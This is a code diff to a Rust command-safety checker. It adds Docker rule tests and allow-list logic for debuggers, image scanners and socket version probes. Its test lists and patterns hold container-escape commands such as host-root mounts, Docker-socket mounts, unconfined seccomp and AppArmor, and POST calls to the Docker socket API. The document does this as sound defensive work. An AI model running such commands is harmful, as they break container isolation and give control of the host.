@@ -555,6 +555,12 @@ pub(super) const RULES: &[Rule] = &[
             "docker run -v /:/host alpine chroot /host",
             "podman run --pid=host alpine",
             "docker run -v /var/run/docker.sock:/var/run/docker.sock x",
+            "docker run -v /var/run/docker.sock:/var/run/docker.sock --entrypoint sh aquasec/trivy",
+            "docker run -v /var/run/docker.sock:/var/run/docker.sock x.example/aquasec/trivy image a",
+            "docker run -v /var/run/docker.sock:/var/run/docker.sock aquasec/trivy plugin run x.example/a",
+            "docker run --security-opt seccomp=unconfined alpine",
+            "docker run --cap-add=SYS_PTRACE --security-opt seccomp=unconfined --pid=host alpine",
+            "docker run --cap-add=SYS_PTRACE --security-opt apparmor=unconfined alpine",
             "docker run --mount type=bind,source=/,target=/h x",
             "docker run --cap-add=ALL x",
             "docker run -v ~/.ssh:/k x",
@@ -591,6 +597,8 @@ pub(super) const RULES: &[Rule] = &[
             "docker ps",
             "docker run --cap-add=NET_ADMIN x",
             "docker run --rm --cap-add SYS_PTRACE gcc:13 gdb -batch a.out",
+            "docker run --rm --cap-add=SYS_PTRACE --security-opt seccomp=unconfined -v $PWD:/w gcc:13 gdb a.out",
+            "docker run --rm -v /var/run/docker.sock:/var/run/docker.sock aquasec/trivy:0.50.1 image shop:dev",
             "docker run -v /tmp/x:/x alpine",
             "docker compose run --rm web npm test",
             "kubectl run x --image=alpine --rm -it -- sh",
@@ -617,10 +625,15 @@ pub(super) const RULES: &[Rule] = &[
         fires: &[
             "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
             "chmod 666 /var/run/docker.sock",
+            "curl --unix-socket /var/run/docker.sock http://localhost/containers/version/json",
+            "curl -X POST --unix-socket /var/run/docker.sock http://localhost/containers/create",
+            "curl --unix-socket /var/run/docker.sock http://localhost/info http://localhost/images/json",
             "nc -U /run/docker.sock",
         ],
         silent: &[
             "docker ps",
+            "curl -s --unix-socket /var/run/docker.sock http://localhost/v1.43/version",
+            "curl --unix-socket /var/run/docker.sock http://localhost/_ping",
             "ls -l /var/run/docker.sock",
             "grep docker.sock compose.yml",
             "echo /var/run/docker.sock",
@@ -1167,13 +1180,44 @@ fn container_host<'a>(scene: &Scene<'a>) -> Found<'a> {
                         || text.starts_with("/dev/mem")
                 }
                 "--security-opt" => {
-                    text.contains("unconfined") || text == "label=disable" || text == "label:disable"
+                    text.contains("unconfined") && !(text == "seccomp=unconfined" && traces(inv))
+                        || text == "label=disable"
+                        || text == "label:disable"
                 }
                 name => SHARED.contains(&name) && text == "host",
             }
         })
     });
     Found::from(found.map(|inv| inv.text.as_str()))
+}
+
+/// A container that may look into its own processes, as the manuals of debuggers have it.
+fn traces(inv: &Invocation) -> bool {
+    let given = |value: &Arg| matches!(value.text().trim_start_matches('='), "SYS_PTRACE" | "CAP_SYS_PTRACE");
+    inv.flags.iter().any(|flag| flag.name == "--cap-add" && flag.value.as_ref().is_some_and(given))
+}
+
+/// Images of programs that look into images, and need the service for that alone.
+const IMAGE_READERS: &[&str] = &[
+    "aquasec/trivy",
+    "aquasecurity/trivy",
+    "wagoodman/dive",
+    "goodwithtech/dockle",
+    "anchore/syft",
+    "anchore/grype",
+    "docker/scout-cli",
+];
+
+/// `docker run -v /var/run/docker.sock:/var/run/docker.sock aquasec/trivy image app`
+fn reads_images(inv: &Invocation) -> bool {
+    let mut words = inv.operands.iter().skip_while(|arg| matches!(arg.known(), Some("run" | "container")));
+    let image = words.next().and_then(Arg::known).unwrap_or_default();
+    let name = ["docker.io/", "ghcr.io/"].iter().find_map(|host| image.strip_prefix(host)).unwrap_or(image);
+    let name = name.split([':', '@']).next().unwrap_or_default();
+    IMAGE_READERS.contains(&name)
+        && inv.sub.first().is_some_and(|sub| sub == "run")
+        && !has_flag(inv, "--entrypoint")
+        && inv.args.iter().all(|arg| !matches!(arg.known(), None | Some("plugin" | "module")))
 }
 
 /// A directory of the host that holds the machine's or the person's secrets or runs it.
@@ -1188,6 +1232,7 @@ fn mounts_host(source: &str, inv: &Invocation, scene: &Scene<'_>) -> bool {
         || ["docker.sock", "containerd.sock", "crio.sock", "podman.sock"]
             .iter()
             .any(|name| source.ends_with(name))
+            && !(source == "/var/run/docker.sock" && reads_images(inv))
         || place.any(&[Class::Root, Class::Home, Class::Users])
         || matches!(
             target.text(),
@@ -1354,9 +1399,36 @@ fn docker_socket<'a>(scene: &Scene<'a>) -> Found<'a> {
             text.ends_with("/docker.sock")
                 || text.ends_with("/containerd.sock")
                 || text.ends_with("/podman.sock")
-        })
+        }) && !asks_for_its_version(inv)
     });
     Found::from(found.map(|inv| inv.text.as_str()))
+}
+
+/// `curl -s --unix-socket /var/run/docker.sock http://localhost/version`: whether the service is there, and which.
+fn asks_for_its_version(inv: &Invocation) -> bool {
+    const OPTIONS: &[&str] = &[
+        "-s",
+        "-S",
+        "-f",
+        "-i",
+        "-v",
+        "--silent",
+        "--fail",
+        "--show-error",
+        "--unix-socket",
+        "-m",
+        "--max-time",
+    ];
+    let harmless = |url: &&str| {
+        let path = url.split_once("://").map_or(*url, |(_, rest)| rest).split_once('/').map(|(_, path)| path);
+        let last = path.map(|path| path.rsplit('/').next().unwrap_or_default());
+        matches!(last, Some("version" | "_ping" | "info"))
+            && path.is_some_and(|path| path.matches('/').count() <= 1)
+    };
+    inv.program == "curl"
+        && inv.args.iter().all(|arg| arg.known().is_some())
+        && inv.flags.iter().all(|flag| OPTIONS.contains(&flag.name.as_str()))
+        && inv.operands.iter().filter_map(Arg::known).all(|url| harmless(&url))
 }
 
 /// `chroot /host`: out of a container, into what it was given of the machine.
